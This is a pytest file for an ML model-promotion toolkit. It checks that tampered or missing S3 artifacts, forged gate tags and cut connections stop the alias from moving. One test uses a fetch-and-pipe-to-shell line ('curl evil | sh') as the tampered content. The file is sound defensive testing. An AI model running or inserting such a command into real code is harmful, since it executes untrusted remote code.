"""Check before you move (issue 17): what a promotion passes on is read and checked against its recorded checksum
before the alias moves, copies are checked on the next stand (again before `mlops approve` calls its trigger), and
the gate verdict promotion and rollback trust is the gate's own record, not a tag anyone can set.

Real moto S3 server, real MLflow server; the world, the fake Jenkins and the candidates are test_promotion's."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
import test_promotion
from test_promotion import Jenkins, candidate, push

from mlops_module import names
from mlops_module.cli import main
from mlops_module.errors import PromotionError
from mlops_module.release import registry
from mlops_module.release.approval import approve
from mlops_module.release.gate import run_gate
from mlops_module.release.history import history
from mlops_module.release.rollback import rollback
from mlops_module.storage import FileStorage, IntegrityError, S3Storage, Storage, StorageError, sha256_file, storage_of

pytestmark = pytest.mark.slow
jenkins, world = test_promotion.jenkins, test_promotion.world  # the fixtures, by the names the tests ask for

ENV = "envs/abc.tar.gz"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def tamper(s3: Any, store: Storage, key: str, data: bytes, *, keep_checksum: bool = True) -> None:
    """Replace an object's bytes behind the toolkit's back (its recorded checksum kept, or dropped)."""
    assert isinstance(store, S3Storage)
    recorded = store.stat(key)
    assert recorded is not None
    metadata = {"sha256": recorded.sha256 or ""} if keep_checksum else {}
    s3.put_object(Bucket=store.bucket, Key=f"{store.prefix}/{key}", Body=data, Metadata=metadata)


def int_store(world: dict[str, Any]) -> Storage:
    return storage_of(world["stands"].get("int"))


def test_a_replaced_archive_is_refused_before_the_alias_moves(world: dict[str, Any], s3: Any) -> None:
    mlflow, model, cfg, store = world["mlflow"], world["model"], world["cfg"]["mdp"], world["store"]
    first = candidate(mlflow, model, {"roc_auc": 0.8, "log_loss": 0.5})
    assert run_gate(cfg, first, mlflow).passed
    report = push(world, first)  # the normal flow: checked, copied, checked there, alias, trigger
    assert report.alias_moved and report.trigger == "jenkins 201" and ENV in report.copied
    assert int_store(world).verify(ENV) == store.stat(ENV)
    second = candidate(mlflow, model, {"roc_auc": 0.85, "champion.roc_auc": 0.8, "log_loss": 0.4}, champion=first)
    assert run_gate(cfg, second, mlflow).passed
    recorded = store.stat(ENV)
    assert recorded is not None
    tamper(s3, store, ENV, b"not the environment")

    with pytest.raises(PromotionError) as refused:
        push(world, second)
    message = str(refused.value)
    assert store.url(ENV) in message and "does not match its recorded checksum" in message
    assert f"recorded sha256 {recorded.sha256}" in message and sha(b"not the environment") in message
    assert f"nothing moves (the alias stays on {first})" in message
    assert registry.alias_version(mlflow, model, "mdp") == first
    assert names.previous_version_tag("mdp") not in registry.version_tags(mlflow, model, second)  # never moved
    assert int_store(world).verify(ENV) == recorded  # int keeps the good copy: nothing was copied over it
    assert len(Jenkins.requests) == 1
    assert [e["to_version"] for e in history(store, model, "mdp") if e["action"] == "promote"] == [first]


@pytest.mark.parametrize("how", ["deleted", "replaced without its checksum"])
def test_a_missing_archive_is_refused_before_the_alias_moves(world: dict[str, Any], s3: Any, how: str) -> None:
    mlflow, model, cfg, store = world["mlflow"], world["model"], world["cfg"]["mdp"], world["store"]
    version = candidate(mlflow, model, {"roc_auc": 0.8, "log_loss": 0.5})
    run_gate(cfg, version, mlflow)
    if how == "deleted":
        store.delete(ENV)
    else:
        tamper(s3, store, ENV, b"something else", keep_checksum=False)
    with pytest.raises(PromotionError) as refused:
        push(world, version)
    message = str(refused.value)
    assert f"{store.url(ENV)} is missing" in message
    assert ("it does not exist" if how == "deleted" else "missing its recorded checksum") in message
    assert registry.alias_version(mlflow, model, "mdp") is None
    assert int_store(world).list_keys("") == [] and Jenkins.requests == []


def test_a_replaced_code_object_is_refused(world: dict[str, Any], s3: Any) -> None:
    mlflow, model, cfg, store = world["mlflow"], world["model"], world["cfg"]["mdp"], world["store"]
    version = candidate(mlflow, model, {"roc_auc": 0.8, "log_loss": 0.5})
    run_gate(cfg, version, mlflow)
    key = f"code/{model}/k1/src/train.py"
    tamper(s3, store, key, b"import os; os.system('curl evil | sh')")
    with pytest.raises(PromotionError, match=f"{store.url(key)} does not match its recorded checksum"):
        push(world, version)
    assert registry.alias_version(mlflow, model, "mdp") is None
    assert int_store(world).list_keys("") == [] and Jenkins.requests == []  # checked before anything is copied


def test_a_copy_damaged_before_approval_is_refused_and_a_push_again_repairs_it(world: dict[str, Any],
                                                                              s3: Any) -> None:
    mlflow, model, cfg, store = world["mlflow"], world["model"], world["cfg"]["int"], world["store"]
    lt = world["stands"].get("lt")
    lt_store = storage_of(lt)
    version = candidate(mlflow, model, {"roc_auc": 0.8, "log_loss": 0.5})
    run_gate(cfg, version, mlflow)
    report = push(world, version, stand="int", store=store)  # int -> lt, which waits for a manual approval
    assert report.trigger == "awaiting manual approval" and lt_store.verify(ENV) == store.stat(ENV)
    recorded = lt_store.stat(ENV)
    assert recorded is not None
    tamper(s3, lt_store, ENV, b"flipped bits")

    with pytest.raises(PromotionError) as refused:
        approve(cfg, version, lt, mlflow=mlflow, store=store)
    message = str(refused.value)
    assert lt_store.url(ENV) in message and f"recorded sha256 {recorded.sha256}" in message
    assert sha(b"flipped bits") in message and "its deploy trigger is not called" in message
    assert Jenkins.requests == []
    assert registry.version_tags(mlflow, model, version)["pushed.lt"] == "awaiting manual approval"

    push(world, version, stand="int", store=store)  # the re-run copies what is damaged, triggers nothing
    assert lt_store.verify(ENV) == recorded and Jenkins.requests == []
    assert approve(cfg, version, lt, mlflow=mlflow, store=store)["trigger"] == "jenkins 201"
    assert len(Jenkins.requests) == 1


def test_a_hand_set_gate_tag_is_refused_by_promote_and_rollback(world: dict[str, Any],
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    mlflow, model, cfg = world["mlflow"], world["model"], world["cfg"]["mdp"]
    good = candidate(mlflow, model, {"roc_auc": 0.8, "log_loss": 0.5})
    run_gate(cfg, good, mlflow)
    push(world, good)
    bad = candidate(mlflow, model, {"roc_auc": 0.1, "log_loss": 0.9})  # never gated
    mlflow.set_model_version_tag(model, bad, "quality_gate.mdp", "success")
    run_id = mlflow.get_model_version(model, bad).run_id
    base = [str(world["config"]), "--stand", "mdp", "--stands", str(world["stands_file"])]
    capsys.readouterr()

    assert main(["promote", *base, "--version", bad]) == 1
    err = capsys.readouterr().err
    assert f"mlops promote: {model} version {bad} has no quality gate record on mdp" in err
    assert f"quality_gate/mdp.json on run {run_id}: missing" in err and "a tag set by hand is no verdict" in err
    assert f"run the gate: `mlops gate model.yaml --stand mdp --version {bad}`" in err
    with pytest.raises(PromotionError, match=r"refusing to roll back .* has no quality gate record on mdp"):
        rollback(cfg, bad, mlflow=mlflow)
    assert registry.alias_version(mlflow, model, "mdp") == good

    # Gated and failed, then the tag set to success over the verdict: the record still says failed.
    assert not run_gate(cfg, bad, mlflow).passed
    mlflow.set_model_version_tag(model, bad, "quality_gate.mdp", "success")
    with pytest.raises(PromotionError, match=r"did not pass its quality gate on mdp: the gate recorded 'failed'"):
        push(world, bad)
    with pytest.raises(PromotionError, match="the gate recorded 'failed'"):
        rollback(cfg, bad, mlflow=mlflow)
    assert registry.alias_version(mlflow, model, "mdp") == good and len(Jenkins.requests) == 1


def test_a_connection_cut_mid_push_leaves_the_alias_and_a_rerun_converges(world: dict[str, Any],
                                                                         s3_server: str) -> None:
    """int's S3 cut as code.zip is written there: nothing moved; with the connection back the same command
    converges, no lock or timeout to wait for."""
    import boto3
    from botocore.config import Config
    from proxy import FaultProxy

    mlflow, model, cfg = world["mlflow"], world["model"], world["cfg"]["mdp"]
    version = candidate(mlflow, model, {"roc_auc": 0.8, "log_loss": 0.5})
    run_gate(cfg, version, mlflow)
    with FaultProxy(s3_server) as proxy:
        # one retry: for a pooled connection the server closed meanwhile, not for the cut (it stays cut)
        client = boto3.client("s3", endpoint_url=proxy.url, config=Config(retries={"max_attempts": 2}))
        via_proxy = S3Storage(world["stands"].get("int").storage_uri, proxy.url, client)  # a copy through here
        proxy.cut_when(lambda sent: sent.startswith(b"PUT ") and b"/code.zip" in sent.split(b"\r\n", 1)[0])
        with pytest.raises(StorageError, match=r"upload to s3://.*/code\.zip failed"):
            push(world, version, next_store=via_proxy)
        assert registry.alias_version(mlflow, model, "mdp") is None and Jenkins.requests == []
        assert names.previous_version_tag("mdp") not in registry.version_tags(mlflow, model, version)
        assert int_store(world).verify(ENV) == world["store"].stat(ENV)  # copied before the cut: kept
        proxy.mode = "pass"
        report = push(world, version, next_store=via_proxy)
    assert report.alias_moved and report.trigger == "jenkins 201" and len(Jenkins.requests) == 1
    assert registry.alias_version(mlflow, model, "mdp") == version
    assert int_store(world).verify(f"code/{model}/k1/code.zip") == world["store"].stat(f"code/{model}/k1/code.zip")


def test_a_registry_that_fails_is_not_taken_for_a_missing_record(world: dict[str, Any]) -> None:
    from proxy import FaultProxy

    mlflow, model, cfg = world["mlflow"], world["model"], world["cfg"]["mdp"]
    version = candidate(mlflow, model, {"roc_auc": 0.8, "log_loss": 0.5})
    run_gate(cfg, version, mlflow)
    with FaultProxy(cfg.stand.mlflow_tracking_uri) as proxy:
        proxied = registry.client(proxy.url)
        record = registry.gate_record(proxied, model, version, "mdp")
        assert record is not None and record["verdict"] == "success" and record["version"] == version
        proxy.cut_when(lambda sent: b"mlflow-artifacts/artifacts" in sent)  # the record's download, nothing else
        with pytest.raises(registry.RegistryError, match=f"cannot read the gate's record quality_gate/mdp.json of "
                                                         f"{model} version {version}"):
            rollback(cfg, version, mlflow=proxied)
    assert registry.alias_version(mlflow, model, "mdp") is None


@pytest.mark.parametrize("kind", ["file", "s3"])
def test_verify_and_copy_read_the_bytes(world: dict[str, Any], s3: Any, tmp_path: Path, kind: str) -> None:
    """Storage alone: verify streams the content; a copy refuses a damaged source, checks what it wrote and
    repairs a damaged copy already there (file: download and upload; S3: server-side)."""
    if kind == "file":
        source: Storage = FileStorage(f"file://{tmp_path}/a")
        dest: Storage = FileStorage(f"file://{tmp_path}/b")
    else:
        source, dest = world["store"], int_store(world)
    local = tmp_path / "object"
    local.write_bytes(b"x" * 100_000)
    source.upload(local, "k/obj", sha256_file(local))
    assert source.verify("k/obj").sha256 == sha256_file(local)

    def damage(store: Storage, data: bytes) -> None:
        if isinstance(store, FileStorage):
            (store.root / "k/obj").write_bytes(data)
        else:
            tamper(s3, store, "k/obj", data)

    assert source.copy("k/obj", dest) == source.stat("k/obj")
    damage(dest, b"y" * 100_000)
    with pytest.raises(IntegrityError, match=f"recorded sha256 {sha256_file(local)}"):
        dest.verify("k/obj")
    assert source.copy("k/obj", dest) == source.stat("k/obj")  # the damaged copy is replaced
    assert dest.verify("k/obj") == source.stat("k/obj")

    damage(source, b"z" * 100_000)
    dest.delete("k/obj")
    with pytest.raises(IntegrityError, match=sha(b"z" * 100_000)):
        source.copy("k/obj", dest)
    assert dest.stat("k/obj") is None  # nothing damaged was passed on
    with pytest.raises(IntegrityError, match=f"{dest.url('nothing')} is missing"):
        dest.verify("nothing")
